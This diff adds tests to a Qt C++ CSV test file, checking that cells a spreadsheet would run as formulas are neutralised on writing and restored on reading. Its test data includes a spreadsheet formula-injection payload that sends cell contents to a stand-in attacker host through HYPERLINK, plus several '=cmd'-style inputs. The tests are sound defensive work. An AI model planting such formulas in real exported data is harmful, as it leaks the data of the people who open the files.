@@ -1,8 +1,10 @@
 // Csv: RFC 4180 reading (quotes, doubled quotes, line breaks in fields, CRLF, line numbers,
-// unterminated quotes) and writing that reads back unchanged.
+// unterminated quotes) and writing that reads back unchanged; cells a spreadsheet would run as
+// formulas are neutralised on the way out and restored on the way in.
 
 #include "core/base/Csv.h"
 
+#include <QRegularExpression>
 #include <QTest>
 
 using sb::Csv;
@@ -21,6 +23,8 @@ private slots:
     void record_data();
     void record();
     void roundTrip();
+    void formulaCells_data();
+    void formulaCells();
 };
 
 void TestCsv::parse_data()
@@ -106,6 +110,19 @@ void TestCsv::record_data()
     QTest::newRow("empty") << QStringList{QString(), QString()} << QStringLiteral(",\r\n");
     QTest::newRow("non-ascii") << QStringList{QStringLiteral("Ødegård")}
                                << QStringLiteral("Ødegård\r\n");
+    QTest::newRow("formula") << QStringList{QStringLiteral("=HYPERLINK(\"http://x\",\"y\")")}
+                             << QStringLiteral("\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\r\n");
+    QTest::newRow("plus, at, minus")
+        << QStringList{QStringLiteral("+47"), QStringLiteral("@sum"), QStringLiteral("-x")}
+        << QStringLiteral("'+47,'@sum,'-x\r\n");
+    QTest::newRow("negative number stays a number")
+        << QStringList{QStringLiteral("-12.50"), QStringLiteral("-3"), QStringLiteral("-1+2")}
+        << QStringLiteral("-12.50,-3,'-1+2\r\n");
+    QTest::newRow("tab start") << QStringList{QStringLiteral("\t=1")}
+                               << QStringLiteral("'\t=1\r\n");
+    QTest::newRow("apostrophes before a formula")
+        << QStringList{QStringLiteral("'=1"), QStringLiteral("'plain"), QStringLiteral("a=b")}
+        << QStringLiteral("''=1,'plain,a=b\r\n");
 }
 
 void TestCsv::record()
@@ -133,6 +150,56 @@ void TestCsv::roundTrip()
     QCOMPARE(rows.size(), records.size());
     for (qsizetype i = 0; i < rows.size(); ++i)
         QCOMPARE(rows[i].fields, records[i]);
+}
+
+void TestCsv::formulaCells_data()
+{
+    QTest::addColumn<QString>("field");
+    for (const char* f : {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+                          "+47",
+                          "+4791234567",
+                          "@sum",
+                          "-x",
+                          "-12.50",
+                          "-1+2",
+                          "=",
+                          "-",
+                          "'",
+                          "''",
+                          "'=1",
+                          "''=1",
+                          "'-12.50",
+                          "'x",
+                          "x'",
+                          "\t=cmd",
+                          "\r=cmd",
+                          "'\t",
+                          " =1",
+                          "=1 ",
+                          "plain",
+                          ""})
+        QTest::newRow(f) << QString::fromUtf8(f);
+}
+
+void TestCsv::formulaCells()
+{
+    QFETCH(QString, field);
+    const QString written = Csv::neutralise(field);
+    QCOMPARE(Csv::restore(written), field);
+    // A spreadsheet sees text, never a formula: nothing written starts with a formula
+    // character unless it is a plain negative number.
+    if (!written.isEmpty() && QStringLiteral("=+-@\t\r").contains(written.front()))
+        QVERIFY2(
+            QRegularExpression(QStringLiteral("^-[0-9]+(\\.[0-9]+)?$")).match(written).hasMatch(),
+            qPrintable(written));
+    // And through a whole document, among other fields.
+    const QString text =
+        Csv::record({QStringLiteral("a"), field, QStringLiteral("b")}) + Csv::record({field});
+    const QList<Csv::Row> rows = Csv::parse(text);
+    QCOMPARE(rows.size(), field.isEmpty() ? 1 : 2);
+    QCOMPARE(rows[0].fields, (QStringList{QStringLiteral("a"), field, QStringLiteral("b")}));
+    if (!field.isEmpty())
+        QCOMPARE(rows[1].fields, QStringList{field});
 }
 
 QTEST_GUILESS_MAIN(TestCsv)
